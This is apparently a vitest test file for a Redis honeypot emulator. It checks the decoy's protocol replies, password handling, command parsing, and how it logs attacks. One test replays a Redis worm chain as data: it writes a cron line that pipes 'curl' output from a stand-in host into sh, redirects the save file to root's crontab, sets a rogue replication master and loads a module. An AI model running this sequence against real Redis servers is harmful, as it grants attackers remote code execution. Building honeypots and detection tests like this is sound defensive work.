import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Served, serveDecoy } from '../host.test-suite.ts';
import { talk } from '../talk.test-suite.ts';
import { redis } from './decoy.ts';
import { RedisReader } from './reader.ts';

let served: Served;
beforeAll(async () => {
  served = await serveDecoy(redis);
});
afterAll(() => served.stop());

/** The answers to these lines; the QUIT behind them only ends the wait. */
const ask = async (...lines: string[]): Promise<string> => {
  const said = await talk(served.port, [`${[...lines, 'QUIT'].join('\r\n')}\r\n`], {
    waitFirst: false,
    patience: 5000,
  });
  return said.replace(/\+OK\r\n$/, '');
};

// What Redis 7.0.15 of Debian 12 answers.
test.each([
  ['PING', '+PONG\r\n'],
  ['PING x', '$1\r\nx\r\n'],
  [
    'AUTH x',
    '-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n',
  ],
  ['AUTH a b', '-WRONGPASS invalid username-password pair or user is disabled.\r\n'],
  ['FOO a b', "-ERR unknown command 'FOO', with args beginning with: 'a' 'b' \r\n"],
  ['foo', "-ERR unknown command 'foo', with args beginning with: \r\n"],
  ['GET', "-ERR wrong number of arguments for 'get' command\r\n"],
  ['GET x', '$-1\r\n'],
  ['CONFIG GET dbfilename', '*2\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n'],
  ['CONFIG FOO', "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n"],
  ['SELECT 99', '-ERR DB index is out of range\r\n'],
  ['SELECT a', '-ERR value is not an integer or out of range\r\n'],
  ['REPLICAOF 198.51.100.1 x', '-ERR Invalid master port\r\n'],
  ['HELLO 9', '-NOPROTO unsupported protocol version\r\n'],
  ['BGSAVE', '+Background saving started\r\n'],
  ['TTL x', ':-2\r\n'],
  ['set x "a', '-ERR Protocol error: unbalanced quotes in request\r\n'],
  ['*1\r\n+x', "-ERR Protocol error: expected '$', got '+'\r\n"],
  ['*99999999999', '-ERR Protocol error: invalid multibulk length\r\n'],
  ['*1\r\n$-5', '-ERR Protocol error: invalid bulk length\r\n'],
])('%j', async (line, answer) => {
  expect(await ask(line)).toBe(answer);
});

test('a worm that writes a crontab is told step by step, and the file is kept', async () => {
  const from = served.records.length;
  await ask(
    'FLUSHALL',
    'SET x "\\n* * * * * curl http://198.51.100.9/i.sh|sh\\n"',
    'CONFIG SET dir /var/spool/cron',
    'CONFIG SET dbfilename root',
    'SAVE',
    'SLAVEOF 198.51.100.9 21000',
    'MODULE LOAD /tmp/exp.so',
  );
  const told = served.records.slice(from);
  expect(told.map(({ event_type, fields }) => fields?.attack ?? event_type)).toEqual([
    'redis_flush',
    'decoy.command',
    'decoy.download',
    'redis_file_write',
    'redis_file_write',
    'decoy.command',
    'decoy.upload',
    'redis_rogue_master',
    'decoy.forward',
    'redis_module_load',
    // QUIT
    'decoy.command',
  ]);
  expect(served.uploads.at(-1)).toMatchObject({ name: '/var/spool/cron/root', via: 'redis' });
  expect(told.find(({ event_type }) => event_type === 'decoy.forward')?.fields).toEqual({
    kind: 'replication',
    dst_host: '198.51.100.9',
    dst_port: 21000,
  });
});

test('with a password nothing goes before it', async () => {
  const locked = await serveDecoy(redis, { protected: true, accept: 'list', accounts: ['default:sesame'] });
  try {
    const said = await talk(locked.port, ['PING\r\n', 'AUTH x\r\n', 'AUTH sesame\r\n', 'PING\r\n'], {
      waitFirst: false,
    });
    expect(said).toBe(
      '-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n+OK\r\n+PONG\r\n',
    );
    expect(locked.of('decoy.login').map(({ outcome, fields }) => [fields?.password, outcome])).toEqual([
      ['x', 'failure'],
      ['sesame', 'success'],
    ]);
  } finally {
    await locked.stop();
  }
});

test('commands are the same however they are cut', () => {
  const sent = '*2\r\n$3\r\nGET\r\n$4\r\na\r\nb\r\nPING\r\n*1\r\n$4\r\nINFO\r\n';
  const read = (size: number): string[][] => {
    const reader = new RedisReader();
    const found: string[][] = [];
    for (let at = 0; at < sent.length; at += size) {
      reader.add(sent.slice(at, at + size));
      for (let next = reader.next(); next !== null; next = reader.next()) if ('words' in next) found.push(next.words);
    }
    return found;
  };
  for (const size of [1, 2, 7, 100]) expect(read(size)).toEqual([['GET', 'a\r\nb'], ['PING'], ['INFO']]);
});
